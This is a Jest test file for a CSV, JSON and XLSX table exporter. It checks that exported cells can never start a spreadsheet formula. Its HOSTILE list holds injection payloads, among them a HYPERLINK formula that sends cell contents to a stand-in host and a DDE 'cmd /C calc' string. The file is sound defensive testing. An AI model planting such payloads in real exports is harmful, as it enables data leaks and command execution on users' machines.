import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csv } from '../../../../../api/office/data/export/csv.ts';
import { json } from '../../../../../api/office/data/export/json.ts';
import type { Cell, Row, Table } from '../../../../../api/office/data/export/table.ts';
import { workbook, xlsx } from '../../../../../api/office/data/export/xlsx.ts';
import { unzip } from '../../../../../api/office/data/import/unzip.ts';
import { collect, readCsv } from '../../../../support/pieces.ts';
import { until } from '../../../../support/until.ts';
import { readSheet } from '../../../../support/workbook.ts';

/** Tables as files: what a spreadsheet or a program reads is what was in the table, and never a formula. */

const AT = Date.UTC(2026, 10, 24, 1, 14);

function table(rows: Row[]): Table {
  async function* given() {
    yield* rows;
  }
  return {
    title: 'Aduan & <uji>',
    columns: [
      { key: 'isi', title: 'Isi "aduan"', type: 'text', width: 60 },
      { key: 'nilai', title: 'Nilai', type: 'number' },
      { key: 'diterima', title: 'Diterima', type: 'moment' },
    ],
    rows: given(),
    zone: { name: 'WIB', offsetMinutes: 420 },
  };
}

const texts = (...values: string[]) => values.map((text): Row => [text, null, null]);

const HOSTILE = [
  `=HYPERLINK("http://contoh.invalid/?"&A1;"klik")`,
  '+62 812',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1',
  'jalan,=1+1',
  'jalan;"@A1',
  'baris satu\r\n- baris dua "kutip"',
  'a'.repeat(2000),
  'jalan rusak 🚧👨‍👩‍👧 di pekon',
  'مرحبا \u202Eterbalik\u202C שלום',
  '</t></is></c><c r="Z9"><f>1+1</f></c>',
  '&amp; &lt; ]]> <!--',
  '_x0041_ _X005f_x0041_',
  '  tepi  ',
  '',
];

const textsIn = (file: Buffer) =>
  new Map([...unzip(file)].map(([name, bytes]) => [name, bytes.toString('utf8')]));

describe('CSV', () => {
  const text = async (given: Table, separator?: ';' | ',') =>
    (await collect(csv(given, separator))).toString();

  it('is what Excel in Indonesia opens: mark of UTF-8, semicolons, quoted texts, bare numbers', async () => {
    const rows: Row[] = [
      ['Jalan "rusak"; parah', 4.5, AT],
      ['dua\nbaris', null, null],
      [null, 0, 0],
    ];
    expect(await text(table(rows))).toBe(
      '\uFEFF"Isi ""aduan""";"Nilai";"Diterima (WIB)"\r\n' +
        '"Jalan ""rusak""; parah";4,5;2026-11-24 08:14\r\n' +
        '"dua\nbaris";;\r\n' +
        ';0;1970-01-01 07:00\r\n',
    );
    expect(await text(table(texts('a,b')), ',')).toContain('\r\n"a,b",,\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+62 812', "'+62 812"],
    ['-5 meter', "'-5 meter"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\nbaris', "'\nbaris"],
    ['＝1+1', "'＝1+1"],
    ['"=1', `"'=1`],
    ['a,=1', "a,'=1"],
    ['a;"@b', `a;"'@b`],
    ['daftar:\n- satu', "daftar:\n'- satu"],
    ['a = b, c', 'a = b, c'],
    ['Rp 5.000,-', "Rp 5.000,'-"],
  ])('%j starts no formula: %j', async (given, written) => {
    const [, [field] = []] = readCsv(await text(table(texts(given))), ';');
    expect(field).toBe(written);
  });

  it.each(['081200000001', '1804xx', '007', '1-2', '3/4/2026', '12.30', '1E5', '16 digit', ' 12'])(
    'text %j stays text',
    async (given) => {
      const [, [field] = []] = readCsv(await text(table(texts(given))), ';');
      expect(field).toBe(/^[\d\s./E-]+$/.test(given) ? `'${given}` : given);
    },
  );

  it('gives back any text, but for apostrophes and what no file may hold', async () => {
    const anyText = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...HOSTILE));
    await fc.assert(
      fc.asyncProperty(fc.array(anyText), fc.constantFrom(';', ','), async (given, separator) => {
        const rows = readCsv(await text(table(texts(...given)), separator as ';'), separator);
        const fields = rows.slice(1).map(([field = '']) => field);
        const plain = (value: string) =>
          value.replace(/(?![\t\n\r])\p{Cc}|[\uFFFE\uFFFF]/gu, '\uFFFD').replaceAll("'", '');
        expect(fields.map(plain)).toEqual(given.map(plain));
        for (const field of fields) expect(field).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        for (const field of fields) expect(field).not.toMatch(/[,;\t\r\n]"*[=+\-@＝＋－＠]/);
      }),
      { seed: 20261124, numRuns: 300 },
    );
  });
});

describe('JSON', () => {
  it('is an array of objects, one a line, with the zone in every moment', async () => {
    const rows: Row[] = [
      ['=1 "a"\n', 5, AT],
      [null, null, null],
    ];
    expect((await collect(json(table(rows)))).toString()).toBe(
      '[\n{"isi":"=1 \\"a\\"\\n","nilai":5,"diterima":"2026-11-24T08:14:00+07:00"},\n' +
        '{"isi":null,"nilai":null,"diterima":null}\n]\n',
    );
    expect((await collect(json(table([])))).toString()).toBe('[]\n');
  });

  it('keeps hostile texts as they were sent', async () => {
    const file = (await collect(json(table(texts(...HOSTILE, 'a\u0000\uD800b'))))).toString();
    const read = JSON.parse(file) as { isi: string }[];
    expect(read.map(({ isi }) => isi)).toEqual([...HOSTILE, 'a\uFFFD\uFFFDb']);
  });

  it('tells zones west of Greenwich and half hours', async () => {
    const given = { ...table([[null, null, AT]]), zone: { name: 'X', offsetMinutes: -210 } };
    expect((await collect(json(given))).toString()).toContain('"2026-11-23T21:44:00-03:30"');
  });
});

/** A share and a day, as reports have them. */
function shares(): Table {
  async function* given(): AsyncGenerator<Row> {
    yield ['PUPR', 0.625, Date.UTC(2026, 10, 24)];
    yield ['PUPR', 1 / 3, null];
  }
  return {
    ...table([]),
    title: 'Bagian',
    columns: [
      { key: 'skpd', title: 'SKPD', type: 'text' },
      { key: 'bagian', title: 'Bagian', type: 'share' },
      { key: 'tanggal', title: 'Tanggal', type: 'date' },
    ],
    rows: given(),
  };
}

describe('shares and days', () => {
  it('are percents with the decimal sign of the place, and dates, in CSV', async () => {
    const body = async (separator?: ';' | ',') =>
      (await collect(csv(shares(), separator))).toString().split('\r\n').slice(1, 3);
    expect(await body()).toEqual(['"PUPR";62,5%;2026-11-24', '"PUPR";33,3333%;']);
    expect(await body(',')).toEqual(['"PUPR",62.5%,2026-11-24', '"PUPR",33.3333%,']);
  });

  it('are whole numbers of days and parts of one in XLSX, shown as dates and percents', async () => {
    const file = await collect(xlsx(shares()));
    const [, first] = readSheet(file).rows;
    expect(first).toEqual({
      A: { kind: 's', value: 'PUPR', style: 2 },
      B: { kind: 'n', value: '0.625', style: 4 },
      C: { kind: 'n', value: '46350', style: 5 },
    });
    const styles = textsIn(file).get('xl/styles.xml') ?? '';
    const formats = [...styles.matchAll(/<xf numFmtId="(\d+)"[^>]*>/g)].slice(1);
    expect([formats[4]?.[1], formats[5]?.[1]]).toEqual(['165', '166']);
    expect(styles).toContain('<numFmt numFmtId="165" formatCode="0.0%"/>');
    expect(styles).toContain('<numFmt numFmtId="166" formatCode="yyyy\\-mm\\-dd"/>');
  });

  it('are days and numbers for programs in JSON', async () => {
    const [first] = JSON.parse((await collect(json(shares()))).toString());
    expect(first).toEqual({ skpd: 'PUPR', bagian: 0.625, tanggal: '2026-11-24' });
  });
});

describe('a workbook of several tables', () => {
  it('has a sheet for each in their order, and each can be filtered', async () => {
    const file = await collect(workbook([table([['satu', 1, AT]]), shares()]));
    const parts = textsIn(file);
    const names = [...(parts.get('xl/workbook.xml') ?? '').matchAll(/<sheet name="([^"]*)"/g)];
    expect(names.map(([, name]) => name)).toEqual(['Aduan &amp; &lt;uji&gt;', 'Bagian']);
    const sheet = (n: number) => parts.get(`xl/worksheets/sheet${n}.xml`) ?? '';
    expect(sheet(1)).toContain('satu');
    expect(sheet(2)).toContain('PUPR');
    expect(sheet(1)).toContain('</sheetData><autoFilter ref="A1:C2"/>');
    expect(sheet(2)).toContain('</sheetData><autoFilter ref="A1:C3"/>');
    const linked = parts.get('xl/_rels/workbook.xml.rels') ?? '';
    for (const n of [1, 2]) {
      expect(linked).toContain(`Id="rId${n}"`);
      expect(parts.get('[Content_Types].xml')).toContain(`/xl/worksheets/sheet${n}.xml`);
    }
  });
});

describe('XLSX', () => {
  it('has a bold frozen head, widths, and cells of the type of their column', async () => {
    const file = await collect(xlsx(table([['0812', 4.5, AT]])));
    const { rows, xml } = readSheet(file);
    expect(rows).toEqual([
      {
        A: { kind: 's', value: 'Isi "aduan"', style: 1 },
        B: { kind: 's', value: 'Nilai', style: 1 },
        C: { kind: 's', value: 'Diterima (WIB)', style: 1 },
      },
      {
        A: { kind: 's', value: '0812', style: 2 },
        B: { kind: 'n', value: '4.5', style: 0 },
        // 24 November 2026, 08.14, as days since 30 December 1899
        C: { kind: 'n', value: String(46_350 + (8 * 60 + 14) / 1440), style: 3 },
      },
    ]);
    expect(xml).toContain(
      '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>',
    );
    expect(xml).toContain('<col min="1" max="1" width="60" customWidth="1"/>');
    const parts = textsIn(file);
    const [, head, text] =
      parts
        .get('xl/styles.xml')
        ?.match(/<cellXfs.*?<\/cellXfs>/)?.[0]
        .match(/<xf .*?>/g) ?? [];
    // number format 49 is `@`, text
    expect(head).toMatch(/numFmtId="49" fontId="1".*quotePrefix="1"/);
    expect(text).toMatch(/numFmtId="49" fontId="0".*quotePrefix="1"/);
    expect(parts.get('xl/workbook.xml')).toContain('name="Aduan &amp; &lt;uji&gt;"');
    expect([...parts.keys()]).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/worksheets/sheet1.xml',
    ]);
  });

  it('keeps hostile texts as texts; only line ends are made alike', async () => {
    const { rows, xml } = readSheet(
      await collect(xlsx(table(texts(...HOSTILE, 'a\u0000\uD800b')))),
    );
    const expected = [...HOSTILE, 'a\uFFFD\uFFFDb'].map((text) => text.replace(/\r\n?/g, '\n'));
    expect(rows.slice(1).map(({ A }) => A?.value)).toEqual(expected);
    expect(rows.slice(1).every(({ A }) => A?.kind === 's')).toBe(true);
    expect(xml).not.toMatch(/<f\b/);
  });

  it('cuts a text that no cell can hold, at a whole character', async () => {
    const { rows } = readSheet(await collect(xlsx(table(texts('x', `y${'😀'.repeat(20_000)}`)))));
    const { value = '' } = rows[2]?.A ?? {};
    expect(value.length).toBeLessThanOrEqual(32_767);
    expect(value).toMatch(/^y(😀)+…$/u);
  });

  it('names columns beyond Z', async () => {
    const columns = Array.from({ length: 28 }, (_, n) => {
      return { key: `k${n}`, title: `k${n}`, type: 'number' as const };
    });
    const row: Cell[] = columns.map((_, n) => n);
    const { rows } = readSheet(await collect(xlsx({ ...table([row]), columns })));
    expect(Object.keys(rows[1] ?? {}).slice(25)).toEqual(['Z', 'AA', 'AB']);
  });

  it('is the same file each time', async () => {
    const twice = await Promise.all([1, 2].map(() => collect(xlsx(table(texts(...HOSTILE))))));
    expect(twice[0]?.equals(twice[1] ?? Buffer.alloc(0))).toBe(true);
  });
});

describe.each([
  ['CSV', csv],
  ['JSON', json],
  ['XLSX', xlsx],
])('%s', (_name, write: (given: Table) => AsyncIterable<string | Uint8Array>) => {
  it('stops reading rows when nobody reads on', async () => {
    let taken = 0;
    let closed = false;
    async function* endless(): AsyncGenerator<Row> {
      try {
        for (;;) {
          taken += 1;
          yield ['x'.repeat(1000), taken, AT];
        }
      } finally {
        closed = true;
      }
    }
    const reader = write({ ...table([]), rows: endless() })[Symbol.asyncIterator]();
    while (taken < 10) await reader.next();
    await reader.return?.();
    await until('the rows are closed', () => closed);
    const then = taken;
    await new Promise((resolve) => setImmediate(resolve));
    expect(taken).toBe(then);
  });

  it('ends with the error of its rows', async () => {
    async function* broken(): AsyncGenerator<Row> {
      yield ['a', 1, AT];
      throw new Error('the store is gone');
    }
    const file = collect(write({ ...table([]), rows: broken() }));
    await expect(file).rejects.toThrow('the store is gone');
  });
});
